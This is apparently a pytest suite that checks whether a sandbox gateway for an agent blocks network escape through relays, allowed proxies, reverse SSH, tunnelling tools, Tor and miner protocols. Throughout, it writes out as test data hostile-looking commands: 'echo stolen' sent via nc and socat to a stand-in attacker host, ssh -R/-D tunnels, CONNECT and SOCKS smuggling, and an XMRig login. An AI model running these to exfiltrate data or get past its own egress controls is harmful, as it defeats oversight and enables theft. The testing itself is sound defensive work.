"""Attacks A10 and A14 of the research on the way out: through a place that is allowed, on to one that is not.

Relays, inside and outside, and every tool that carries a network in a connection; each is checked at the far end.
"""

from __future__ import annotations

import asyncio
import os
from pathlib import Path

import pytest

from corral.actions import Kind
from tests.contain.conftest import MakeBox
from tests.contain.gateway_attacks import (
    EVIL,
    NOTHING_ALLOWS,
    WEB,
    attack,
    nothing_arrived,
    refused,
    requests_refused,
    spoken,
    statuses,
    tool,
)
from tests.contain.gateway_boxes import PYTHON, policy_of, refusals, shell
from tests.internet.world import Internet
from tests.unit.hellos import body, groups, hello, message, records, server_name, signatures, versions

WEB_ADDRESSES = ("203.0.113.80", "2001:db8:2::80")
API_ADDRESSES = ("203.0.113.81", "2001:db8:2::81")

# ---- A10: relays ----

RELAY = r"""
import socket, sys, threading
server = socket.socket(); server.setsockopt(1, 2, 1); server.bind(("127.0.0.1", 8888)); server.listen(16)
print("up", flush=True)
def pump(a, b):
    try:
        while data := a.recv(4096): b.sendall(data)
    except OSError: pass
def serve(s):
    head = s.recv(4096)
    host, port = head.split()[1].rsplit(b":", 1)
    try:
        up = socket.create_connection((host.decode().strip("[]"), int(port)), timeout=5)
    except OSError as error:
        s.sendall(b"HTTP/1.1 502 %s\r\n\r\n" % type(error).__name__.encode()); s.close(); return
    s.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
    threading.Thread(target=pump, args=(s, up), daemon=True).start(); pump(up, s)
while True:
    threading.Thread(target=serve, args=(server.accept()[0],), daemon=True).start()
"""


def _told(loop: asyncio.AbstractEventLoop, event: asyncio.Event) -> None:
    loop.call_soon_threadsafe(event.set)


async def test_a_relay_inside(make_box: MakeBox, internet: Internet) -> None:
    """A10: a proxy of the agent's own, in its own sandbox, gets as far as the agent: CONNECT to it is nothing."""
    box = await make_box(policy=policy_of(WEB))
    internet.clear()
    up = asyncio.Event()
    loop = asyncio.get_running_loop()
    running = asyncio.create_task(box.exec([PYTHON, "-c", RELAY], timeout=20, on_stdout=lambda _: _told(loop, up)))
    await asyncio.wait_for(up.wait(), 15)
    for url in ("https://evil.example/", f"https://{EVIL}/", "https://pool.example/", "https://[2001:db8:2::66]/"):
        result = await shell(box, f"curl -g -sS -k -m 8 -x http://127.0.0.1:8888 {url}")
        assert result.exit_code != 0 and b"502" in result.stderr, (url, result)
    nothing_arrived(internet)
    refused(box, Kind.NET_RESOLVE, "evil.example", NOTHING_ALLOWS)
    refused(box, Kind.NET_CONNECT, f"{EVIL}:443", NOTHING_ALLOWS)
    # What the policy allows, it allows through the relay, too; what is spoken is seen all the same.
    code = "https_proxy=http://127.0.0.1:8888 curl -sS -k -m 8 https://web.test/"
    assert "hello from web.test" in (await shell(box, code)).text
    running.cancel()
    await asyncio.gather(running, return_exceptions=True)


async def test_relays_of_real_tools(make_box: MakeBox, internet: Internet) -> None:
    """A10: socat and ncat as the relay."""
    tool("socat")
    box = await make_box(policy=policy_of(WEB))
    internet.clear()
    commands = {
        "socat": f"socat TCP-LISTEN:8801,reuseaddr TCP:{EVIL}:443 & sleep 0.3; echo stolen | nc -w 3 127.0.0.1 8801;"
        " wait $!",
        "socat-6": "socat TCP-LISTEN:8802,reuseaddr TCP6:[2001:db8:2::66]:443 & sleep 0.3;"
        " echo stolen | nc -w 3 127.0.0.1 8802; wait $!",
        "socat-unix": f"socat UNIX-LISTEN:/tmp/s TCP:{EVIL}:443 & sleep 0.3; echo stolen | socat -t 2 - UNIX:/tmp/s;"
        " wait $!",
        "socat-proxy": f"echo stolen | socat -t 2 - PROXY:proxy.test:{EVIL}:443,proxyport=3128",
        "socat-udp": f"echo stolen | socat -t 2 - UDP:{EVIL}:443",
        "ncat": "ncat -l 127.0.0.1 8803 --proxy-type http & p=$!; sleep 0.5;"
        f" curl -sS -k -m 5 -f -x http://127.0.0.1:8803 https://{EVIL}/; r=$?; kill $p; exit $r",
    }

    async def run(name: str, command: str) -> None:
        result = await shell(box, command, 25)
        assert result.exit_code != 0, (name, result)

    await asyncio.gather(*(run(name, command) for name, command in commands.items()))
    nothing_arrived(internet)


PROXIES = {
    "curl": "curl -sS -m 8 -f -x http://proxy.test:3128 http://evil.example/",
    "curl-connect": "curl -sS -m 8 -f -p -x http://proxy.test:3128 http://evil.example/",
    "curl-https": "curl -sS -k -m 8 -f -x http://proxy.test:3128 https://evil.example/",
    "curl-of-web": "curl -sS -k -m 8 -f -x http://web.test:80 https://evil.example/",
    "curl-absolute": "curl -sS -m 8 -f -x http://web.test:80 http://evil.example/",
    "curl-target": "curl -sS -m 8 -f --request-target http://evil.example/ http://web.test/",
    "curl-tls-proxy": "curl -sS -k --proxy-insecure -m 3 -f -x https://proxy.test:3128 https://evil.example/",
    "socks5": "curl -sS -m 8 -f --socks5-hostname socks.test:1080 http://evil.example/",
    "socks5-local": f"curl -sS -m 8 -f --socks5 socks.test:1080 http://{EVIL}/",
    "socks4": f"curl -sS -m 8 -f --socks4 socks.test:1080 http://{EVIL}/",
    "socks4a": "curl -sS -m 8 -f --socks4a socks.test:1080 http://evil.example/",
    "nc-connect": f"printf 'stolen' | nc -X connect -x proxy.test:3128 -w 5 {EVIL} 443",
    "nc-socks": f"printf 'stolen' | nc -X 5 -x socks.test:1080 -w 5 {EVIL} 443",
    "ssh": "ssh -o BatchMode=yes -o ConnectTimeout=8 -o 'ProxyCommand=nc -X connect -x proxy.test:3128 %h %p' "
    "git@ssh.test true",
    "git": "git -c http.proxy=http://proxy.test:3128 ls-remote https://git.test/public.git",
}


@pytest.mark.parametrize("protocol", ["", ", protocol: tcp"])
async def test_the_proxy_of_an_allowed_host(make_box: MakeBox, internet: Internet, protocol: str) -> None:
    """A10: a name being allowed does not make its host a way on to others, whether plain TCP is allowed or not."""
    rules = f"""
        allow:
          - {{name: proxy.test, port: 3128{protocol}}}
          - {{name: socks.test, port: 1080{protocol}}}
          - web.test:80
    """
    box = await make_box(policy=policy_of(rules))
    internet.clear()
    found = await box.exec(["sh", "-c", "command -v curl nc ssh git"])
    there = {path.rpartition("/")[2] for path in found.text.split()}

    async def run(name: str, command: str) -> None:
        if command.split()[0] in there | {"printf"}:
            result = await shell(box, f"set -e; {command}", 30)
            # nc ends well when the other end hangs up; curl, ssh and git do not.
            assert result.exit_code != 0 or name.startswith("nc"), (name, result)

    await asyncio.gather(*(run(name, command) for name, command in PROXIES.items()))
    # A TLS proxy's hello may arrive at the proxy, which speaks none: TLS to an allowed name is what the rule says.
    arrived = nothing_arrived(
        internet,
        names=["proxy.test", "socks.test", "web.test"],
        addresses=[] if protocol else ["203.0.113.31", "2001:db8:2::31"],
    )
    assert all(arrival.head[:1] == b"\x16" for arrival in arrived if arrival.bytes), arrived
    assert not any(note.startswith("dial") for arrival in arrived for note in arrival.notes)
    for name, spoke in (("proxy.test", "connect"), ("socks.test", "socks"), ("web.test", "connect")):
        assert any(
            getattr(d.action.subject, "protocol", None) == spoke and getattr(d.action.subject, "name", "") == name
            for d in refusals(box, Kind.NET_CONNECT)
        ) or any("CONNECT" in (method, reason) for method, _, reason in requests_refused(box)), (name, spoke)


async def test_a_proxy_that_is_asked_late(make_box: MakeBox, internet: Internet) -> None:
    """A10: where plain TCP is allowed, who first waits for its server to speak is looked at all the same."""
    rules = "allow: [{name: proxy.test, port: 3128, protocol: tcp}, {name: socks.test, port: 1080, protocol: tcp}]"
    box = await make_box(policy=policy_of(rules))
    internet.clear()
    code = r"""
def late(host, port, *pieces):
    s = socket.create_connection((host, port), timeout=8)
    try:
        for piece in pieces:
            time.sleep(0.7); s.sendall(piece)
        return heard(s, 4)
    except OSError as error:
        return failure(error)
connect = b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n"
import concurrent.futures
each = [("proxy.test", 3128, connect), ("proxy.test", 3128, connect[:20], connect[20:]),
    ("proxy.test", 3128, b"\r\n", connect), ("socks.test", 1080, b"\5\1\0", b"\5\1\0\1" + bytes(4) + b"\0\1"),
    ("socks.test", 1080, b"\5", b"\1\0", b"\5\1\0\3\x0cevil.example\1\xbb")]
with concurrent.futures.ThreadPoolExecutor(5) as pool:
    tell(list(pool.map(lambda one: late(*one), each)))
"""
    heard = await attack(box, code)
    assert not any("200" in answer or answer.startswith("\x05\x00") for answer in heard), heard
    found = nothing_arrived(
        internet,
        names=["proxy.test", "socks.test"],
        addresses=["203.0.113.31", "2001:db8:2::31", "203.0.113.10", "2001:db8:2::10"],
    )
    assert not any(arrival.requests or "evil.example" in str(arrival.notes) for arrival in found), found
    assert not any(b"evil.example:443 HTTP" in arrival.head for arrival in found)


# ---- A14: SSH ----


def _keys(internet: Internet, workspace: Path) -> str:
    """Options of ssh that would let it in."""
    key, hosts = workspace / "key", workspace / "hosts"
    key.write_text(internet.ssh_key)
    hosts.write_text(internet.known_hosts)
    key.chmod(0o644)
    if not internet.ssh_key:
        pytest.skip("no sshd on this machine; `make test` as root installs one")
    # Inside, the key must be its reader's own and nobody else's.
    return (
        f"cp {key} /tmp/key; chmod 600 /tmp/key; ssh -o BatchMode=yes -o ConnectTimeout=8 -o StrictHostKeyChecking=yes "
        f"-o UserKnownHostsFile={hosts} -o IdentitiesOnly=yes -i /tmp/key"
    )


SSH_PLACES = {"ssh.test": 22, "ssh443.example": 443}


@pytest.mark.parametrize("host", SSH_PLACES)
async def test_reverse_ssh(make_box: MakeBox, internet: Internet, workspace: Path, host: str) -> None:
    """A14: `ssh -R` and its relatives, to real servers, on 22 and 443, at names that are allowed for TLS and HTTP."""
    tool("ssh")
    port = SSH_PLACES[host]
    box = await make_box(policy=policy_of(f"allow: [{host}]"))
    ssh = _keys(internet, workspace)
    internet.clear()
    for words in ("-N -R 9000:127.0.0.1:22", "-N -D 1080", "-N -L 8080:evil.example:80", "-W evil.example:80", "-T"):
        result = await shell(box, f"{ssh} -o ExitOnForwardFailure=yes {words} -p {port} git@{host} </dev/null", 15)
        assert result.exit_code == 255 and not result.timed_out, result
    nothing_arrived(internet)
    refusal = spoken(box, host, "ssh")
    assert refusal.action.origin.process is not None and refusal.action.origin.process.exe.endswith("/ssh")


async def test_ssh_where_plain_tcp_is_allowed(make_box: MakeBox, internet: Internet, workspace: Path) -> None:
    """A14: `tcp` is not SSH; where SSH is allowed, the same client comes through (the test can fail)."""
    tool("ssh")
    rules = "allow: [{name: ssh443.example, protocol: tcp}, {name: ssh.test, port: 22, protocol: ssh}]"
    box = await make_box(policy=policy_of(rules))
    ssh = _keys(internet, workspace)
    internet.clear()
    result = await shell(box, f"{ssh} -N -R 9000:127.0.0.1:22 -p 443 git@ssh443.example </dev/null", 15)
    assert result.exit_code == 255
    nothing_arrived(internet)
    spoken(box, "ssh443.example", "ssh")
    result = await shell(box, f"{ssh} git@ssh.test echo let in </dev/null", 15)
    assert result.text == "let in\n", result


# ---- A14: other tools, by their first bytes ----


def _websocket(path: str, protocol: str) -> bytes:
    return (
        f"GET {path} HTTP/1.1\r\nHost: tunnel.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
        f"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        f"Sec-WebSocket-Protocol: {protocol}\r\n\r\n"
    ).encode()


def _tor() -> bytes:
    """A hello of Tor's: a random name, no ALPN, P-224 among its groups."""
    extensions = [server_name(b"www.abcdefgh234567.com"), versions(0x0304, 0x0303), groups(23, 21), signatures(0x0403)]
    return records(message(body(extensions)))


TOOLS: dict[str, tuple[str, bytes]] = {
    "ssh": ("ssh", b"SSH-2.0-OpenSSH_9.2\r\n"),
    "ssh-old": ("ssh", b"SSH-1.5-x\n"),
    "ssh-late": ("ssh", b"\r\n\r\nSSH-2.0-x\r\n"),
    "chisel": ("tunnel", _websocket("/", "chisel-v3")),
    "wstunnel": ("tunnel", _websocket("/v1/events", "v1, authorization.bearer.eyJpZCI6IjAxOTAifQ")),
    "frp": ("tunnel", b"\x17" + hello(name=b"tunnel.example")),
    "frp-login": ("tunnel", b'o\0\0\0\0\0\0\0\x20{"version":"0.51.0","os":"linux"}'),
    "yamux": ("tunnel", b"\0\1\0\1\0\0\0\1\0\0\0\0"),
    "rathole": ("tunnel", b"\0\0\0\0\1" + bytes(32)),
    "wireguard": ("tunnel", b"\0\x94\1\0\0\0" + bytes(144)),
    "openvpn": ("tunnel", b"\0\x0e\x38" + bytes(range(1, 9)) + b"\0\0\0\0\0"),
    "turn": ("tunnel", b"\0\3\0\x08\x21\x12\xa4\x42" + bytes(20)),
    "proxy-protocol": ("tunnel", b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n"),
    "bore": ("tunnel", b'{"Hello":9000}\0'),
    "gost": ("tunnel", b"\1\1\0\7\1\0\4abcd"),
    "stratum": ("stratum", b'{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5"]}\n'),
    "stratum-login": (
        "stratum",
        b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"44A","pass":"x","agent":"XMRig"}}\n',
    ),
    "stratum-eth": ("stratum", b'{"id":1,"method":"eth_submitLogin","params":["0x0"]}\n'),
    "tor": ("tor", _tor()),
    "socks5": ("socks", b"\x05\x01\x00"),
    "socks4": ("socks", b"\x04\x01\x01\xbb\xcb\x00\x71\x42\x00"),
    "connect": ("connect", b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n"),
    "h2c": ("h2c", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
}
RANDOM = {"random": os.urandom(600), "text": b"hello, world\n" + b"x" * 40000, "openssl-enc": b"Salted__" + bytes(600)}

SAY_ALL = r"""
import concurrent.futures
host, ports, data = ARGS
def one(item):
    port, piece = item
    return say(host, port, bytes.fromhex(piece))
with concurrent.futures.ThreadPoolExecutor(24) as pool:
    tell(list(pool.map(one, [(port, piece) for port in ports for piece in data])))
"""


@pytest.mark.parametrize("host", ["tunnel.example", "pool.example"])
async def test_tools_at_an_allowed_name(make_box: MakeBox, internet: Internet, host: str) -> None:
    """A14: on 80, 443 and their own ports, at a name that is allowed for what it is usually for."""
    ports = {"tunnel.example": (80, 443, 4444), "pool.example": (443, 3333)}[host]
    box = await make_box(policy=policy_of(f"allow: [{host}]"))
    internet.clear()
    sent = {**{name: data for name, (_, data) in TOOLS.items()}, **RANDOM}
    heard = await attack(box, SAY_ALL, host, ports, [data.hex() for data in sent.values()], timeout=60)
    for answer in heard:
        assert answer in ("ECONNRESET", "EPIPE", "EOF") or statuses(answer) == [403] or answer[:2] == "\x15\x03", heard
    nothing_arrived(internet)
    for protocol in {protocol for protocol, _ in TOOLS.values()} | {"tcp"}:
        assert any(
            getattr(d.action.subject, "protocol", "") == protocol and getattr(d.action.subject, "name", "") == host
            for d in refusals(box, Kind.NET_CONNECT)
        ), protocol


async def test_tools_where_plain_tcp_is_allowed(make_box: MakeBox, internet: Internet) -> None:
    """A14: `tcp` names what nobody knows, and none of these; behind some text of another protocol neither."""
    box = await make_box(policy=policy_of("allow: [{name: tunnel.example, port: 4444, protocol: tcp}]"))
    internet.clear()
    sent = {name: data for name, (_, data) in TOOLS.items()}
    heard = await attack(box, SAY_ALL, "tunnel.example", [4444], [data.hex() for data in sent.values()], timeout=60)
    assert not [name for name, answer in zip(sent, heard, strict=True) if answer == "TimeoutError"], heard
    nothing_arrived(internet)
    assert {getattr(d.action.subject, "protocol", "") for d in refusals(box, Kind.NET_CONNECT)} >= {
        "ssh",
        "tunnel",
        "stratum",
        "tor",
        "socks",
        "connect",
        "h2c",
    }


BEHIND = ("ssh", "stratum", "stratum-login", "connect", "h2c")


@pytest.mark.parametrize("together", [False, True])
async def test_tools_behind_other_text(make_box: MakeBox, internet: Internet, together: bool) -> None:
    """A14: a line of something else comes first, by itself or in the same segment."""
    box = await make_box(policy=policy_of("allow: [{name: tunnel.example, port: 4444, protocol: tcp}]"))
    internet.clear()
    code = r"""
import concurrent.futures
def one(data):
    pieces = [b"EHLO box\r\n", bytes.fromhex(data)]
    return say("tunnel.example", 4444, *([b"".join(pieces)] if ARGS[0] else pieces), pause=0.5, patience=3)
with concurrent.futures.ThreadPoolExecutor(24) as pool:
    tell(list(pool.map(one, ARGS[1])))
"""
    data = [*(TOOLS[name][1] for name in BEHIND), hello(name=b"evil.example"), b"STARTTLS\r\n"]
    heard = await attack(box, code, together, [piece.hex() for piece in data])
    assert "TimeoutError" not in heard, heard
    found = nothing_arrived(internet, names=["tunnel.example"], addresses=["203.0.113.44", "2001:db8:2::44"])
    for arrival in found:
        assert arrival.bytes <= len(b"EHLO box\r\n"), (arrival.bytes, arrival.head)


DRIP = r"""
import concurrent.futures
def drip(host, port, first, data):
    s = socket.create_connection((host, port), timeout=8)
    try:
        time.sleep(first)
        for byte in data.encode("latin-1"):
            s.sendall(bytes((byte,))); time.sleep(1)
        return heard(s, 8)
    except OSError as error:
        return failure(error)
with concurrent.futures.ThreadPoolExecutor(24) as pool:
    tell(list(pool.map(lambda item: drip(*item), ARGS)))
"""


async def test_a_slow_drip(make_box: MakeBox, internet: Internet) -> None:
    """A14: a byte a second of a banner, and of others, on 443 and where plain TCP is allowed."""
    rules = "allow: [ssh443.example:443, tunnel.example:443, {name: tunnel.example, port: 4444, protocol: tcp}]"
    box = await make_box(policy=policy_of(rules))
    internet.clear()
    banner = "SSH-2.0-x\r\n"
    drips = [
        ("ssh443.example", 443, 0, banner),
        ("tunnel.example", 443, 0, "\x05\x01\x00"),
        ("tunnel.example", 443, 0, "PRI * HTTP/2"),
        ("tunnel.example", 443, 2, banner),
        ("tunnel.example", 4444, 0, banner),
        ("tunnel.example", 4444, 0, "\x05\x01\x00"),
        ("tunnel.example", 443, 0, "\x16\x03\x01"),
        ("tunnel.example", 4444, 1.5, banner),
    ]
    heard = await attack(box, DRIP, *drips, timeout=60)
    for drip, answer in zip(drips[:6], heard, strict=False):
        assert answer in ("ECONNRESET", "EPIPE", "EOF"), (drip, answer)
    assert heard[7] in ("ECONNRESET", "EPIPE", "EOF"), heard
    found = nothing_arrived(internet, names=["tunnel.example"], addresses=["203.0.113.44", "2001:db8:2::44"])
    # Who has plain TCP there and waits first may send text; what is a banner by now stops.
    assert sum(arrival.bytes for arrival in found) < len(banner), found
    spoken(box, "ssh443.example", "ssh")
    spoken(box, "tunnel.example", "socks")
    spoken(box, "tunnel.example", "h2c")


async def test_nothing_is_read_from_a_server_that_speaks_first(make_box: MakeBox, internet: Internet) -> None:
    """A14: silence is no protocol: without leave for plain TCP, the server is not even dialled."""
    box = await make_box(policy=policy_of("allow: [ssh.test, ssh443.example, mail.test]"))
    internet.clear()
    code = r"""
import concurrent.futures
with concurrent.futures.ThreadPoolExecutor(3) as pool:
    tell(list(pool.map(lambda place: say(*place, patience=2), ARGS)))
"""
    heard = await attack(box, code, ("ssh.test", 22), ("ssh443.example", 443), ("mail.test", 25))
    assert heard == ["TimeoutError"] * 3, heard
    nothing_arrived(internet)
